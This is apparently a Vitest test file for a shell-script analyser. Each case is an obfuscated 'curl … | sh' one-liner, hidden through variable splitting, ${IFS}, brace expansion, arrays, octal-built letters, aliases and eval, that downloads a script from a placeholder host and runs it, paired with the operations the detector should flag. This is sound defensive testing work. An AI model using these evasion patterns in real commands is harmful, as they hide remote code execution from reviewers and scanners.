import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

test.each([
  [
    "two variables",
    'a=cu;b=rl;$a$b https://get.example/i.sh|b""ash',
    ["1:11 download ⟨https://get.example/i.sh⟩", "1:41 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "${IFS} between the words",
    'c""url${IFS}-s${IFS}https://get.example/i.sh|s\\h',
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:46 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a separator of its own",
    "IFS=,; x=curl,-s,https://get.example/i.sh; $x | sh",
    ["1:44 download ⟨https://get.example/i.sh⟩", "1:49 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "backslashes",
    String.raw`\c\u\r\l https://get.example/i.sh | "b"'ash'`,
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:37 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "braces",
    "{curl,-s,https://get.example/i.sh}|bash",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:36 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a sequence in braces",
    "cu{r..r}l https://get.example/i.sh|{s..s}h",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:36 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a path in front",
    "/usr/bin/curl https://get.example/i.sh | /bin/sh",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:42 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "an array",
    'cmd=(curl -s https://get.example/i.sh)\n"${cmd[@]}" | bash',
    ["2:1 download ⟨https://get.example/i.sh⟩", "2:15 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "letters of an array",
    'A=(c u r l); "${A[0]}${A[1]}${A[2]}${A[3]}" https://get.example/i.sh | sh',
    ["1:14 download ⟨https://get.example/i.sh⟩", "1:72 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "an associative array",
    "declare -A m=([k]=https://get.example/i.sh); curl ${m[k]} | sh",
    ["1:46 download ⟨https://get.example/i.sh⟩", "1:61 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a name in a variable",
    "v=c; c=curl; ${!v} https://get.example/i.sh | sh",
    ["1:14 download ⟨https://get.example/i.sh⟩", "1:47 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a default",
    'curl "https://${H:-get.example}/i.sh" | bash',
    ["1:1 download ⟨https://get.example/i.sh⟩ ← $H", "1:41 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a part cut off",
    "x='curl https://get.example/i.shXYZ'; eval \"${x%XYZ}\"",
    ["1:39 evaluate shell ⟨curl https://get.example/i.sh⟩", "1:44 download ⟨https://get.example/i.sh⟩"],
  ],
  [
    "letters taken out",
    "x='cXurXl https://get.example/i.sh'; eval \"${x//X/}\"",
    ["1:38 evaluate shell ⟨curl https://get.example/i.sh⟩", "1:43 download ⟨https://get.example/i.sh⟩"],
  ],
  [
    "a slice",
    "x=xxcurlxx; ${x:2:4} https://get.example/i.sh | sh",
    ["1:13 download ⟨https://get.example/i.sh⟩", "1:49 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "lower case",
    "X=CURL; ${X,,} https://get.example/i.sh | sh",
    ["1:9 download ⟨https://get.example/i.sh⟩", "1:43 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a pattern from the start",
    "x=a/b/curl; ${x##*/} https://get.example/i.sh | sh",
    ["1:13 download ⟨https://get.example/i.sh⟩", "1:49 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "appended",
    'x="curl -s"; x+=" https://get.example/i.sh"; $x | sh',
    ["1:46 download ⟨https://get.example/i.sh⟩", "1:51 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "printf into a variable",
    "printf -v x '%s' curl; $x https://get.example/i.sh | sh",
    ["1:24 download ⟨https://get.example/i.sh⟩", "1:54 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "positional parameters",
    'set -- curl -s https://get.example/i.sh; "$@" | sh',
    ["1:42 download ⟨https://get.example/i.sh⟩", "1:49 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "read from a here-string",
    'read -r a b <<< "curl https://get.example/i.sh"; $a $b | sh',
    ["1:50 download ⟨https://get.example/i.sh⟩", "1:58 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a quoted export",
    'export "U=https://get.example/i.sh"; curl $U | sh',
    ["1:38 download ⟨https://get.example/i.sh⟩", "1:48 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "fish's set",
    "set U https://get.example/i.sh; curl $U | sh",
    ["1:33 download ⟨https://get.example/i.sh⟩", "1:43 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a function with a parameter",
    `f() { curl -s "$1"; }
f https://get.example/i.sh | bash`,
    ["1:7 download ⟨https://get.example/i.sh⟩", "2:30 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a function that prints the address",
    "f() { echo https://get.example/i.sh; }; curl $(f) | sh",
    ["1:41 download ⟨https://get.example/i.sh⟩", "1:53 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "an alias",
    `alias g='curl -s'
g https://get.example/i.sh | bash`,
    ["2:1 download ⟨https://get.example/i.sh⟩", "2:30 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "parameters of an inner shell",
    "bash -c 'curl $1 | $2' _ https://get.example/i.sh sh",
    [
      "1:1 evaluate shell ⟨curl $1 | $2⟩",
      "1:10 download ⟨https://get.example/i.sh⟩",
      "1:20 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "variables of the outer shell",
    "U=https://get.example/i.sh; bash -c 'curl $U | sh'",
    [
      "1:29 evaluate shell ⟨curl $U | sh⟩",
      "1:38 download ⟨https://get.example/i.sh⟩",
      "1:48 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "letters by number in a loop",
    String.raw`s=; for c in 99 117 114 108; do s+=$(printf "\\$(printf %o $c)"); done; $s https://get.example/i.sh | sh`,
    ["1:73 download ⟨https://get.example/i.sh⟩", "1:103 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "each address of a loop",
    "for u in https://get.example/a https://get.example/b; do curl $u | sh; done",
    [
      "1:58 download ⟨https://get.example/a⟩",
      "1:68 evaluate shell ~⟨?⟩ ← network https://get.example/a",
      "1:58 download ⟨https://get.example/b⟩",
      "1:68 evaluate shell ~⟨?⟩ ← network https://get.example/b",
    ],
  ],
  [
    "one of two addresses",
    "if true; then u=https://a.example; else u=https://b.example; fi; curl $u | sh",
    ["1:66 download ~⟨https://a.example⟩", "1:76 evaluate shell ~⟨?⟩ ← network https://a.example"],
  ],
  [
    "a configuration file for curl",
    "curl -K - <<< 'url = \"https://get.example/i.sh\"' | sh",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:52 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
])("addresses and programs that are put together: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});
